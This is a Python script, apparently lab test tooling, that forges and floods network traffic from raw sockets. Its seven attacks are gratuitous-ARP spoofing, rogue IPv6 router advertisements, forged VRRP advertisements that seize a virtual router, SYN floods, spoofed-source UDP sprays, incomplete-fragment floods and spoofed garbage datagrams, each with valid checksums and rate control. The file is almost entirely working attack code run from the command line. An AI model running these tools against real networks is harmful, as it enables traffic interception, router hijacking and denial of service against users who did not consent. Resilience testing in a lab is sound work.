"""What a hostile or broken neighbour puts on the wire: forged frames and floods. Standard library only.

Run inside a lab host as `python -I -S attack.py WHAT …`; one JSON line says how many packets went out. Real attackers
need no more than a raw socket either.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

ETH_P_ARP, ETH_P_IP, ETH_P_IPV6 = 0x0806, 0x0800, 0x86DD
BROADCAST = b"\xff" * 6
_RANDOM = random.Random(7)  # noqa: S311 - the same attack every time


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return int(~(total + (total >> 16)) & 0xFFFF)


def packed(address: str) -> bytes:
    """An IPv4 address as four bytes."""
    return ipaddress.IPv4Address(address).packed


def ip_packet(source: str, target: str, protocol: int, payload: bytes, *, ttl: int = 64, fragment: int = 0) -> bytes:
    """An IPv4 packet with a checksum of its own; `fragment` is the flags-and-offset field."""
    ident = _RANDOM.randrange(65536)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), ident, fragment, ttl, protocol, 0)
    head += packed(source) + packed(target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp(sport: int, dport: int, payload: bytes) -> bytes:
    """A UDP datagram without checksum (RFC 768 allows 0)."""
    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def tcp_syn(source: str, target: str, sport: int, dport: int) -> bytes:
    """A SYN."""
    body = struct.pack("!HHIIBBHHH", sport, dport, _RANDOM.randrange(1 << 32), 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = packed(source) + packed(target) + struct.pack("!BBH", 0, 6, len(body))
    return body[:16] + struct.pack("!H", checksum(pseudo + body)) + body[18:]


def vrrp(source: str, target: str, router_id: int, priority: int, vip: str, centiseconds: int) -> bytes:
    """A VRRPv3 advertisement (RFC 9568 section 5.1) that passes every checksum."""
    body = struct.pack("!BBBBHH", 0x31, router_id, priority, 1, centiseconds, 0) + packed(vip)
    pseudo = packed(source) + packed(target) + struct.pack("!BBH", 0, 112, len(body))
    return body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]


def arp(mac: bytes, address: str, operation: int) -> bytes:
    """A gratuitous ARP frame: `address` is at `mac`."""
    body = struct.pack("!HHBBH", 1, ETH_P_IP, 6, 4, operation) + mac + packed(address) + b"\0" * 6 + packed(address)
    return BROADCAST + mac + struct.pack("!H", ETH_P_ARP) + body


def router_advertisement(mac: bytes) -> bytes:
    """A frame to all nodes: the way to everywhere is here, for half an hour, before all others (RFC 4861, RFC 4191)."""
    source = ipaddress.IPv6Address("fe80::bad").packed
    target = ipaddress.IPv6Address("ff02::1").packed
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0) + struct.pack("!BB", 1, 1) + mac
    pseudo = source + target + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + target
    return bytes.fromhex("333300000001") + mac + struct.pack("!H", ETH_P_IPV6) + head + body


def own_mac(interface: str) -> bytes:
    """The hardware address of an interface."""
    with open(f"/sys/class/net/{interface}/address") as file:  # noqa: PTH123 - no pathlib under -S is no gain
        return bytes.fromhex(file.read().strip().replace(":", ""))


def raw_ip() -> Callable[[bytes, str], None]:
    """A sender of whole IPv4 packets."""
    link = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(packet: bytes, target: str) -> None:
        try:
            link.sendto(packet, (target, 0))
        except OSError:  # a full queue drops, as a wire would
            return

    return send


def paced(total: int, rate: float) -> Iterator[int]:
    """Numbers from 0 to `total`, `rate` a second."""
    start = time.monotonic()
    for number in range(total):
        yield number
        if number % 50 == 49:
            time.sleep(max(0.0, start + number / rate - time.monotonic()))


def garp(options: argparse.Namespace) -> int:
    """Claim an address with our own hardware address."""
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((options.interface, ETH_P_ARP))
    mac = own_mac(options.interface)
    for _ in paced(options.count, options.rate):
        for operation in (1, 2):
            link.send(arp(mac, options.source, operation))
    return int(options.count) * 2


def routers(options: argparse.Namespace) -> int:
    """Say that we are the IPv6 router."""
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((options.interface, ETH_P_IPV6))
    for _ in paced(options.count, options.rate):
        link.send(router_advertisement(own_mac(options.interface)))
    return int(options.count)


def adverts(options: argparse.Namespace) -> int:
    """VRRP advertisements in another's name."""
    send = raw_ip()
    for _ in paced(options.count, options.rate):
        body = vrrp(options.source, options.target, options.router_id, options.priority, options.vip, 10)
        send(ip_packet(options.source, options.target, 112, body, ttl=255), options.target)
    return int(options.count)


def spray(options: argparse.Namespace) -> int:
    """UDP packets, each of another flow, the sources in turn: ports of the target first, then our own."""
    send = raw_ip()
    sources = options.source.split(",")
    for number in paced(options.count, options.rate):
        source = sources[number % len(sources)]
        dport = options.port or 1024 + number % 64000
        sport = 1024 + (number if options.port else number // 64000) % 64500
        send(ip_packet(source, options.target, 17, udp(sport, dport, b"spray")), options.target)
    return int(options.count)


def syns(options: argparse.Namespace) -> int:
    """SYNs from one address to random ports."""
    send = raw_ip()
    for _ in paced(options.count, options.rate):
        sport, dport = _RANDOM.randrange(1024, 65536), _RANDOM.randrange(1, 65536)
        body = tcp_syn(options.source, options.target, sport, dport)
        send(ip_packet(options.source, options.target, 6, body), options.target)
    return int(options.count)


def fragments(options: argparse.Namespace) -> int:
    """First fragments whose rest never comes."""
    send = raw_ip()
    for _ in paced(options.count, options.rate):
        body = udp(_RANDOM.randrange(1024, 65536), 9, b"x" * 64)
        send(ip_packet(options.source, options.target, 17, body, fragment=0x2000), options.target)
    return int(options.count)


def garbage(options: argparse.Namespace) -> int:
    """UDP datagrams of random bytes to one port, in another's name."""
    send = raw_ip()
    for _ in paced(options.count, options.rate):
        noise = _RANDOM.randbytes(_RANDOM.randrange(1, 600))
        send(ip_packet(options.source, options.target, 17, udp(options.port, options.port, noise)), options.target)
    return int(options.count)


ATTACKS = {
    "garp": garp,
    "adverts": adverts,
    "routers": routers,
    "spray": spray,
    "syns": syns,
    "fragments": fragments,
    "garbage": garbage,
}


def main() -> None:
    """Do one attack to its end."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("what", choices=tuple(ATTACKS))
    parser.add_argument("--interface", default="eth0")
    parser.add_argument("--source", required=True)
    parser.add_argument("--target", default="255.255.255.255")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--vip", default="0.0.0.0")  # noqa: S104 - a field of a packet, no listener
    parser.add_argument("--router-id", type=int, default=51)
    parser.add_argument("--priority", type=int, default=100)
    parser.add_argument("--count", type=int, default=1)
    parser.add_argument("--rate", type=float, default=1000.0)
    options = parser.parse_args()
    sys.stdout.write(json.dumps({"sent": ATTACKS[options.what](options)}) + "\n")


if __name__ == "__main__":
    main()
